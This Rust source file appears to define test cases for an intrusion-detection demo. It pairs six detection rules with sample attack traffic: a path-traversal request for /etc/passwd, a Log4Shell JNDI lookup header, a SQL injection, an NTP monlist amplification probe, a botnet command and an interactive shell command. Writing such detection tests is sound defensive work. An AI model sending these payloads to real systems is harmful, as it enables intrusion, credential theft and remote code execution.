//! The rules of the demonstration, and for each the traffic that it is about.

use sluice_tests::witness::{End, Transport};

/// A rule with an attack that it finds.
pub(super) struct Case {
    /// Action of the rule.
    pub(super) action: &'static str,
    /// Transport of rule and attack.
    pub(super) transport: Transport,
    /// Signature id.
    pub(super) sid: u32,
    /// Message.
    message: &'static str,
    /// What the rule looks for.
    content: &'static str,
    /// What the client sends; contains the content.
    pub(super) attack: &'static str,
    /// Whether the attack reaches the server.
    pub(super) delivered: bool,
    /// How it ends for the client.
    pub(super) client: End,
    /// How it ends for the server, when the verdict says something to it.
    pub(super) server: Option<End>,
}

/// One case for each action and transport.
pub(super) const CASES: [Case; 6] = [
    Case {
        action: "alert",
        transport: Transport::Tcp,
        sid: 1_000_001,
        message: "Password file requested",
        content: "/etc/passwd",
        attack: "GET /../../etc/passwd HTTP/1.1\r\nHost: demo\r\n\r\n",
        delivered: true,
        client: End::Answered,
        server: None,
    },
    Case {
        action: "drop",
        transport: Transport::Tcp,
        sid: 1_000_002,
        message: "Log4Shell lookup",
        content: "|24 7b|jndi|3a|ldap|3a|//",
        attack: "GET / HTTP/1.1\r\nHost: demo\r\nUser-Agent: ${jndi:ldap://x/a}\r\n\r\n",
        delivered: false,
        client: End::Silence,
        server: None,
    },
    Case {
        action: "drop",
        transport: Transport::Udp,
        sid: 1_000_003,
        message: "Command channel of a bot",
        content: "botnet-order",
        attack: "botnet-order: flood",
        delivered: false,
        client: End::Silence,
        server: None,
    },
    Case {
        action: "reject",
        transport: Transport::Tcp,
        sid: 1_000_004,
        message: "SQL injection",
        content: "union select",
        attack: "GET /?id=1'+UNION SELECT+password HTTP/1.1\r\nHost: demo\r\n\r\n",
        delivered: false,
        client: End::Reset,
        server: None,
    },
    Case {
        action: "reject",
        transport: Transport::Udp,
        sid: 1_000_005,
        message: "Amplification request",
        content: "monlist",
        attack: "monlist please",
        delivered: false,
        client: End::Unreachable,
        server: None,
    },
    Case {
        action: "rejectboth",
        transport: Transport::Tcp,
        sid: 1_000_006,
        message: "Interactive shell",
        content: "/bin/sh -i",
        attack: "exec /bin/sh -i\n",
        delivered: false,
        client: End::Reset,
        server: Some(End::Reset),
    },
];

/// The rule file.
pub(super) fn text() -> String {
    let mut text = String::from("# Written by the demonstration.\n");
    for case in &CASES {
        let protocol = case.transport.name().to_lowercase();
        let Case {
            action,
            message,
            content,
            sid,
            ..
        } = case;
        text += &format!(
            "{action} {protocol} any any -> any any (msg:\"{message}\"; content:\"{content}\"; \
             nocase; sid:{sid}; rev:1;)\n"
        );
    }
    text
}
